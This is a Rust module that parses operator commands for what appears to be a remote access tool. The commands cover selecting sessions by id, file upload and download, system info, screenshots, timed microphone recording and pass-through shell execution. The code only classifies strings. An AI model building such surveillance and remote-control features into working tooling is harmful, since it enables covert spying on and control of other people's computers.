//! Classification of raw command strings.

/// The classified meaning of one command string.
///
/// Parsing is pure; [`Intent::parse`] applies the precedence rules and
/// nothing else.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Intent {
    /// Blank line: nothing to do, nothing to answer.
    Empty,
    /// `exit` / `quit`, any casing.
    Exit,
    /// `list`, any casing.
    List,
    /// `use <id>`: acknowledged only.
    Use(String),
    /// `cd [path]`; the path may be empty.
    ChangeDir(String),
    /// `download <path>`: executing side sends the file.
    Download(String),
    /// `upload <path>`: executing side receives the file.
    Upload(String),
    /// `sysinfo`
    SysInfo,
    /// `screenshot <path>`
    Screenshot(String),
    /// `recordmic <path>.<ext> <seconds>`
    RecordMic { path: String, seconds: u64 },
    /// A recognised keyword with missing or invalid arguments.
    Usage(&'static str),
    /// Anything else goes to the shell.
    Exec(String),
}

impl Intent {
    pub fn parse(raw: &str) -> Self {
        let command = raw.trim();
        if command.is_empty() {
            return Intent::Empty;
        }

        if command.eq_ignore_ascii_case("exit") || command.eq_ignore_ascii_case("quit") {
            return Intent::Exit;
        }
        if command.eq_ignore_ascii_case("list") {
            return Intent::List;
        }

        let (word, rest) = match command.split_once(char::is_whitespace) {
            Some((word, rest)) => (word, rest.trim()),
            None => (command, ""),
        };

        match word {
            "use" if rest.is_empty() => Intent::Usage("use <id>"),
            "use" => Intent::Use(rest.to_string()),
            "cd" => Intent::ChangeDir(rest.to_string()),
            "download" if rest.is_empty() => Intent::Usage("download <path>"),
            "download" => Intent::Download(rest.to_string()),
            "upload" if rest.is_empty() => Intent::Usage("upload <path>"),
            "upload" => Intent::Upload(rest.to_string()),
            "sysinfo" if rest.is_empty() => Intent::SysInfo,
            "screenshot" if rest.is_empty() => Intent::Usage("screenshot <path>"),
            "screenshot" => Intent::Screenshot(rest.to_string()),
            "recordmic" => parse_recordmic(rest),
            _ => Intent::Exec(command.to_string()),
        }
    }

    /// Short label for logs.
    pub fn name(&self) -> &'static str {
        match self {
            Intent::Empty => "empty",
            Intent::Exit => "exit",
            Intent::List => "list",
            Intent::Use(_) => "use",
            Intent::ChangeDir(_) => "cd",
            Intent::Download(_) => "download",
            Intent::Upload(_) => "upload",
            Intent::SysInfo => "sysinfo",
            Intent::Screenshot(_) => "screenshot",
            Intent::RecordMic { .. } => "recordmic",
            Intent::Usage(_) => "usage",
            Intent::Exec(_) => "exec",
        }
    }
}

fn parse_recordmic(rest: &str) -> Intent {
    const USAGE: &str = "recordmic <file>.<ext> <seconds>";

    let Some((path, seconds)) = rest.rsplit_once(char::is_whitespace) else {
        return Intent::Usage(USAGE);
    };
    let path = path.trim();
    let has_extension = std::path::Path::new(path).extension().is_some();
    match seconds.parse::<u64>() {
        Ok(seconds) if seconds > 0 && has_extension => Intent::RecordMic {
            path: path.to_string(),
            seconds,
        },
        _ => Intent::Usage(USAGE),
    }
}
